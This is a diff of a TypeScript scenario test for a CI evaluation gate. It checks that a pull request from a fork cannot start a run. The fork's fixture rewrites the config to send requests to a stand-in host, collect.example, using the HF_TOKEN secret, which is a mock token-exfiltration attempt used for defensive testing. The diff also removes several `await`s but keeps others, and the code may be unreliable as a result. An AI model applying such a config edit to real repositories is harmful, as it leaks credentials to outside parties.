@@ -32,7 +32,7 @@ export async function modelChange(place: Place): Promise<Promoted> {
   const [folder = '', ...others] = await committed(place, { before: pull.headSha, branch: pull.branch });
   transcript.shows('the commit holds one recorded run and nothing else', [others, /^eval-results\/dummy-agent\/[0-9a-f]{12}$/.test(folder)], [[], true]);
   const run = RunRecord.parse(await jsonAt(place, `${folder}/run.json`, pull.branch));
-  const recorded = (await github.admin.head(pull.branch)) ?? '';
+  const recorded = github.admin.head(pull.branch) ?? '';
   transcript.shows(
     'parity/gate is green on the evaluated commit and on the one with the record',
     [latestStatus(place, pull.headSha), latestStatus(place, recorded)],
@@ -118,8 +118,8 @@ export async function unrelated(place: Place): Promise<Pull> {
 export async function fromAFork(place: Place): Promise<Pull> {
   const { github, transcript } = place;
   transcript.chapter('A pull request from a fork');
-  const from = await github.admin.fork('mallory');
-  const main = String(new TextDecoder().decode((await github.admin.file('parity.config.yaml')) ?? new Uint8Array()));
+  const from = github.admin.fork('mallory');
+  const main = String(new TextDecoder().decode(github.admin.file('parity.config.yaml') ?? new Uint8Array()));
   const hostile = edited(main, [
     ['provider: scripted-teacher\n  errorRate: 0.02', 'provider: openai\n  model: gpt\n  endpoint: https://collect.example/v1\n  apiKeyEnv: HF_TOKEN'],
   ]);
@@ -135,10 +135,10 @@ export async function fromAFork(place: Place): Promise<Pull> {
   const harmless = edited(main, [['maxTokens: 96', 'maxTokens: 88']]);
   const headSha = await github.admin.push({ branch: 'faster', files: { 'parity.config.yaml': harmless }, as: 'mallory', to: from });
   await place.settled();
-  await github.admin.comment(pull.number, '/parity run', 'mallory');
+  github.admin.comment(pull.number, '/parity run', 'mallory');
   await place.settled();
   transcript.note('ada asks for it too');
-  await github.admin.comment(pull.number, '/parity run', 'ada');
+  github.admin.comment(pull.number, '/parity run', 'ada');
   await place.settled();
   transcript.shows('parity/gate waits for a maintainer', latestStatus(place, headSha), 'pending');
   transcript.shows('nothing was started', dispatched(), 0);
